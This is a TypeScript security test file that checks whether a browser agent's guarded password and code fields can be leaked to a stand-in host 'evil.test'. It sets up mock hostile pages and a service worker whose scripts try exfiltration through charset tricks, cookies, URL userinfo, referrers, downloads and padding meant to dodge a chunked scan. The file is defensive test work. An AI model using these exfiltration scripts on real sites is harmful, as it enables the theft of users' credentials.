import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AttackSites, type Bound, type Hand, startAttackSites } from './secret-attacks.test-helpers.ts';

const own = 'www.shop.test';
/** Another host of the same registrable domain, which strangers fill with their pages; the credential does not name it. */
const sibling = 'users.shop.test';
const evil = 'evil.test';
const word = 'canary-word-4711';
const code = '482913';
/** As long as a file of keys and certificates. */
const keys = Array.from({ length: 9_000 }, (_, at) => ((at * at * 7919) % 36).toString(36)).join('');
/** Where a search by parts of 256 KiB, each with the last 8 KiB of the one before, sees them nowhere as a whole. */
const keysAt = (256 - 8) * 1024 - 300;

let sites: AttackSites;
const field = `<input type="password" name="w" aria-label="Password">`;
const go = '<button>Go</button>';
const form = (attributes: string, inside = field): string =>
  `<form method="post" ${attributes}>${inside}${go}</form>`;
/** A form whose script sends its value in a way of its own. */
const script = (body: string, inside = field): string => `${form('action="/in"', inside)}<script>
  const form = document.forms[0];
  form.onsubmit = async (event) => { event.preventDefault(); const { value } = form.elements[0]; ${body} };
</script>`;
const box = (digit: number): string =>
  `<input name="d${digit}" maxlength="1" size="1" aria-label="Digit ${digit}">`;
const boxes = (from: number, to: number): string =>
  Array.from({ length: to - from + 1 }, (_, at) => box(from + at)).join('');
const workerScript = (address: string): string => `
  oninstall = () => skipWaiting();
  onactivate = (event) => event.waitUntil(clients.claim());
  onfetch = (event) => {
    if (event.request.method !== 'POST') return;
    event.respondWith((async () => {
      const body = await event.request.clone().text();
      await fetch('${address}', { method: 'POST', mode: 'no-cors', body }).catch(() => undefined);
      return new Response('Thanks');
    })());
  };`;

beforeAll(async () => {
  sites = await startAttackSites((origin) => {
    const there = `${origin(evil)}/in`;
    const pages: Readonly<Record<string, string>> = {
      '/latin-parts': form('action="/leave" enctype="multipart/form-data" accept-charset="iso-8859-1"'),
      '/latin-parts-here': form('action="/in" enctype="multipart/form-data" accept-charset="iso-8859-1"'),
      '/latin-lines': form('action="/leave" enctype="text/plain" accept-charset="iso-8859-1"'),
      '/windows': form('action="/leave" accept-charset="windows-1252"'),
      '/cyrillic': form('action="/leave" accept-charset="windows-1251"'),
      '/foreign-signs': form('action="/leave" accept-charset="iso-8859-1"'),
      '/boxes': form('action="/leave"', boxes(1, 6)),
      '/boxes-apart': form(
        'action="/leave"',
        `${boxes(1, 3)}<input type="hidden" name="part" value="2">${boxes(4, 6)}`,
      ),
      '/header-name': script(`fetch('${there}', { headers: { [value]: '1' } });`),
      '/method': script(`fetch('${there}', { method: value });`),
      '/cookie': script(
        `document.cookie = 'seen=' + value + ';domain=shop.test;path=/'; new Image().src = '${origin(sibling)}/in';`,
      ),
      '/user-info': script(`location.href = '${there}'.replace('//', '//u:' + value + '@') + '?locked';`),
      '/download': script(
        `const link = document.createElement('a'); link.download = 'bill.txt';
        link.href = '/out?to=' + encodeURIComponent('${there}?w=' + value); document.body.append(link); link.click();`,
      ),
      '/referrer': `<form action="/welcome">${field}${go}</form>`,
      '/welcome': `<h1>Welcome</h1><img referrerpolicy="unsafe-url" src="${there}?picture">`,
      '/long-body': script(
        `fetch('${there}', { method: 'POST', mode: 'no-cors', body: '-'.repeat(${keysAt}) + value + '-'.repeat(9000) });`,
        '<textarea name="t" aria-label="Keys"></textarea>',
      ),
      '/worked': `${form('action="/in"')}<script>
        navigator.serviceWorker.oncontrollerchange = () => { document.querySelector('button').textContent = 'Send'; };
        navigator.serviceWorker.register('/worker.js');
      </script>`,
    };
    return (path, { url = '', headers }) => {
      if (url === '/in?locked' && headers.authorization === undefined)
        return { status: 401, headers: { 'www-authenticate': 'Basic realm="shop"' }, keeps: true };
      if (path === '/leave') return { status: 307, headers: { location: there } };
      if (path === '/out') {
        const to = new URL(url, 'http://site').searchParams.get('to') ?? '';
        return { status: 302, headers: { location: to } };
      }
      if (path === '/worker.js')
        return { headers: { 'content-type': 'text/javascript' }, body: workerScript(there) };
      return pages[path] ?? null;
    };
  });
});
afterAll(() => sites?.[Symbol.asyncDispose]());

/** Fills a field, sends its form, and waits until the request has gone out or was refused. */
async function submit(
  hand: Hand,
  path: string,
  { at = own, to = evil, fill }: { at?: string; to?: string; fill: (hand: Hand) => Promise<unknown> },
): Promise<void> {
  await hand.open(sites.origin(at) + path);
  await fill(hand);
  await hand.act({ action_type: 'click', id: hand.id('Go') || hand.id('Send') });
  const isRefused = () =>
    hand.events.some((event) => event.type === 'request_refused' && event.origin === sites.origin(to));
  await expect.poll(() => isRefused() || sites.sentTo(to).length > 0).toBe(true);
}
const fillPassword = async (hand: Hand): Promise<void> => {
  const action = { action_type: 'input_text', id: hand.id('Password'), text: hand.password } as const;
  expect(await hand.act(action)).toMatchObject({ status: 'ok' });
};
const bound = (values: Partial<Bound>): Bound => ({
  ...{ username: 'ann', password: word, hosts: [sites.origin(own)] },
  ...values,
});
const everythingAt = (host: string): string => sites.sentTo(host).join('\n');

describe('secrets that leave by a form or a request', { tags: ['security', 'extended'] }, () => {
  // Each with the bytes that the other site would get.
  it.each([
    ['/latin-parts', 'Grün-Haus-4711', 'Gr\xfcn-Haus-4711'],
    ['/latin-lines', 'Grün-Haus-4711', 'Gr\xfcn-Haus-4711'],
    ['/windows', 'Haus€Garten-4711', 'Haus%80Garten-4711'],
    ['/cyrillic', 'Ключ-4711', '%CA%EB%FE%F7-4711'],
    // A charset that lacks a letter sends it as an entity.
    ['/foreign-signs', 'Ключ-4711', '%26%231050%3B%26%231083%3B%26%231102%3B%26%231095%3B-4711'],
  ])(
    'a form in the charset of an older page cannot be redirected with a password: %s',
    async (path, password, bytes) => {
      await sites.attack(bound({ password }), (hand) => submit(hand, path, { fill: fillPassword }));
      expect(everythingAt(evil)).not.toContain(bytes);
    },
  );

  it('a form in the charset of an older page brings a password to its own site', async () => {
    await sites.attack(bound({ password: 'Grün-Haus-4711' }), (hand) =>
      submit(hand, '/latin-parts-here', { to: own, fill: fillPassword }),
    );
    expect(everythingAt(own)).toContain('Gr\xfcn-Haus-4711');
  });

  it.each(['/boxes', '/boxes-apart'])(
    'a form with a box for each digit cannot be redirected with a code: %s',
    async (path) => {
      await sites.attack(bound({ username: code }), (hand) =>
        submit(hand, path, {
          fill: async () => {
            const typing = { action_type: 'verification_code', id: hand.id('Digit 1') } as const;
            expect(await hand.act({ ...typing, code: hand.username })).toMatchObject({ status: 'ok' });
          },
        }),
      );
      const digits = sites.received
        .filter(({ host }) => host === evil)
        .map(({ body }) => [1, 2, 3, 4, 5, 6].map((at) => new URLSearchParams(body).get(`d${at}`)).join(''));
      expect(digits).not.toContain(code);
    },
  );

  it.each(['/header-name', '/method'])(
    'a request cannot carry a password outside of its address, body and values of headers: %s',
    async (path) => {
      await sites.attack(bound({}), (hand) => submit(hand, path, { fill: fillPassword }));
      expect(everythingAt(evil)).not.toContain(word);
    },
  );

  it('a cookie cannot carry a password to another host of the domain', async () => {
    await sites.attack(bound({}), (hand) => submit(hand, '/cookie', { to: sibling, fill: fillPassword }));
    expect(everythingAt(sibling)).not.toContain(word);
  });

  it('an address cannot carry a password as that of its user', async () => {
    await sites.attack(bound({}), (hand) => submit(hand, '/user-info', { fill: fillPassword }));
    const sent = sites.received
      .filter(({ host }) => host === evil)
      .map(({ headers }) => headers.authorization ?? '');
    const decoded = sent.map((text) => Buffer.from(text.replace(/^Basic /, ''), 'base64').toString());
    expect(decoded.join()).not.toContain(word);
    expect(everythingAt(evil)).not.toContain(word);
  });

  it('a download cannot be redirected with a password in its address', async () => {
    await sites.attack(bound({}), (hand) => submit(hand, '/download', { fill: fillPassword }));
    expect(everythingAt(evil)).not.toContain(word);
  });

  it('the address of a page cannot bring a password to the sites of its pictures', async () => {
    await sites.attack(bound({}), (hand) => submit(hand, '/referrer', { fill: fillPassword }));
    expect(everythingAt(evil)).not.toContain(word);
  });

  it('a long body cannot hide a long secret between the parts that are searched', async () => {
    await sites.attack(bound({ username: keys }), (hand) =>
      submit(hand, '/long-body', {
        fill: async () => {
          const typing = { action_type: 'input_text', id: hand.id('Keys'), text: hand.username } as const;
          expect(await hand.act(typing)).toMatchObject({ status: 'ok' });
        },
      }),
    );
    expect(everythingAt(evil).includes(keys)).toBe(false);
  });

  it('a service worker cannot send a form on to another site', async () => {
    // Only an address that is secure has one.
    const local = 'localhost';
    await sites.attack(bound({ hosts: [sites.origin(local)] }), async (hand) => {
      await hand.open(`${sites.origin(local)}/worked`);
      const found = () => hand.read().then(() => hand.id('Send'));
      await expect.poll(found).not.toBe('');
      await fillPassword(hand);
      await hand.act({ action_type: 'click', id: hand.id('Send') });
      const isRefused = () => hand.events.some((event) => event.type === 'request_refused');
      await expect.poll(() => isRefused() || sites.sentTo(evil).length > 0).toBe(true);
    });
    expect(everythingAt(evil)).not.toContain(word);
  });
});
